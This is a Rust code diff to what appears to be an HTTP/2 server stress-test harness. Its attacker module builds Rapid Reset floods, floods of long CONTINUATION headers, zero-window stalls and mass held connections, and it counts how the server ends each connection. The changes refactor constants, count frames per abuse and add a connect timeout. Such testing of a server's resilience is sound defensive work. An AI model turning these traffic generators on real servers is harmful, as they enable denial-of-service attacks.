@@ -14,10 +14,13 @@ use std::net::{SocketAddr, TcpStream};
 use std::process::{Child, Stdio};
 use std::time::{Duration, Instant};
 
-/// Frames in a piece that is sent.
-const FRAMES: u32 = 64;
+/// How often the abuse is repeated in a piece that is sent.
+const REPETITIONS: u32 = 64;
 /// The time to read in, between two pieces, and after the last one.
 const PATIENCE: Duration = Duration::from_millis(20);
+/// The headers of a section that is too long.
+const LONG_HEADERS: u32 = 100;
+const CONNECT_TIME_MAX: Duration = Duration::from_secs(1);
 /// Connections that are held open at a time, where that is the abuse.
 const HELD_MAX: usize = 50;
 /// Streams of each of them.
@@ -89,6 +92,8 @@ struct Victim {
     next: u32,
     /// The last GOAWAY.
     code: u32,
+    /// The server has ended it, which was counted.
+    has_ended: bool,
 }
 
 impl Attacker {
@@ -173,7 +178,7 @@ impl Attacker {
 
     /// Adds the next piece to `bytes`, and returns the number of its frames.
     fn piece(&self, victim: &mut Victim, bytes: &mut Vec<u8>) -> u32 {
-        for _ in 0..FRAMES {
+        for _ in 0..REPETITIONS {
             let stream = victim.next;
             match self.attack {
                 Attack::RapidReset => {
@@ -206,7 +211,15 @@ impl Attacker {
                 Attack::ZeroWindow => (),
             }
         }
-        FRAMES
+        REPETITIONS * self.frames_of_an_abuse()
+    }
+
+    fn frames_of_an_abuse(&self) -> u32 {
+        match self.attack {
+            Attack::RapidReset => 2,
+            Attack::LongHeaders => 1 + LONG_HEADERS,
+            _ => 1,
+        }
     }
 
     /// Starts it as a process, pinned to `cpu` if given.
@@ -251,7 +264,7 @@ fn get(path: &str) -> Vec<u8> {
     http2::header_section("GET", "http", "a.test", path)
 }
 
-/// A request with a hundred headers of 1000 bytes.
+/// A request with many headers of 1000 bytes.
 fn long_headers(bytes: &mut Vec<u8>, victim: &mut Victim) {
     frame(
         bytes,
@@ -260,10 +273,14 @@ fn long_headers(bytes: &mut Vec<u8>, victim: &mut Victim) {
         victim.next,
         &get("/hot/4096.bin"),
     );
-    for number in 1..=100 {
+    for number in 1..=LONG_HEADERS {
         let mut field = Vec::new();
         http2::field(&mut field, "a", &"x".repeat(1000));
-        let flags = if number == 100 { END_HEADERS } else { 0 };
+        let flags = if number == LONG_HEADERS {
+            END_HEADERS
+        } else {
+            0
+        };
         frame(bytes, CONTINUATION, flags, victim.next, &field);
     }
     victim.next += 2;
@@ -288,13 +305,15 @@ fn zero_windows() -> Vec<u8> {
 
 impl Victim {
     fn connect(address: SocketAddr) -> Result<Self> {
-        let socket = TcpStream::connect(address).context(|| format!("connect to {address}"))?;
+        let socket = TcpStream::connect_timeout(&address, CONNECT_TIME_MAX)
+            .context(|| format!("connect to {address}"))?;
         socket.set_nonblocking(true).context(|| "socket".into())?;
         Ok(Self {
             socket,
             partial: Vec::new(),
             next: 1,
             code: 0,
+            has_ended: false,
         })
     }
 
@@ -323,6 +342,9 @@ impl Victim {
 
     /// Reads what is there, and returns whether the server has ended the connection, which is counted.
     fn has_ended(&mut self, report: &mut AttackReport) -> bool {
+        if self.has_ended {
+            return true;
+        }
         let mut bytes = [0; 64 * 1024];
         loop {
             match self.socket.read(&mut bytes) {
@@ -332,6 +354,7 @@ impl Victim {
                 Err(_) => break,
             }
         }
+        self.has_ended = true;
         *report.ended.entry(self.code).or_default() += 1;
         true
     }
